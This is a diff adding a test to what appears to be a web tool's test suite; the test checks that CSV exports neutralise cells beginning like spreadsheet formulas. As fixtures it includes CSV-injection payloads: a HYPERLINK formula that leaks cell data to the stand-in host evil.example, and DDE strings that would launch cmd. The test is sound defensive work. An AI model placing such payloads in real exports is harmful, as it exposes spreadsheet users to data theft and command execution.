@@ -432,6 +432,43 @@ def test_every_route_answers_odd_input_with_4xx_never_5xx(small_served):
     assert not failures, "\n".join(map(str, failures))
 
 
+#: Cells a spreadsheet would run (OWASP's CSV injection examples) and an id that is a number.
+FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1, "click")'
+FORMULA_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_csv_exports_never_hand_a_spreadsheet_a_formula(tmp_path):
+    """A tag's note and ids that start like a formula reach tags.csv and a selection's
+    CSV with a leading quote; the tag store keeps the real text; a numeric id stays."""
+    from raregal.explore.tags import TagStore
+
+    from .run_folders import small_run
+
+    ids = [f"g{i:03d}" for i in range(60)]
+    ids[:4] = [FORMULA_ID, "-5", "+cmd|' /C calc'!A0", "\t=1+1"]
+    run = tmp_path / "run"
+    small_run(run, ids=ids)
+    server = Served(run, None)
+    try:
+        body = json.dumps({"kind": "galaxy", "target": FORMULA_ID, "tag": "note",
+                           "note": FORMULA_NOTE}).encode()
+        assert raw_request(server, "POST", "/api/tags", body)[0] == 200
+        status, answer = raw_request(server, "GET", "/api/tags.csv")
+        tags = pd.read_csv(io.BytesIO(answer), dtype=str)
+        assert status == 200 and tags.loc[0, "note"] == "'" + FORMULA_NOTE
+        assert tags.loc[0, "target"] == "'" + FORMULA_ID
+        assert TagStore(run).list()[0]["note"] == FORMULA_NOTE  # the real text is kept
+        key = json.loads(raw_request(server, "POST", "/api/select", b'{"class": "A"}')[1])
+        status, answer = raw_request(server, "GET", f"/api/selection/{key['selection']}/export.csv")
+        exported = pd.read_csv(io.BytesIO(answer), dtype={"id_str": str}, keep_default_na=False)
+    finally:
+        server.stop()
+    assert sorted(exported["id_str"]) == sorted(
+        ["'" + FORMULA_ID, "-5", "'+cmd|' /C calc'!A0", "'\t=1+1", *ids[4:10]])
+    classes = pd.read_parquet(run / "classes.parquet").iloc[:10]
+    assert sorted(exported["probability"]) == sorted(classes["probability"])  # numbers as they are
+
+
 # --- in the browser ----------------------------------------------------------------------
 
 def _browser():
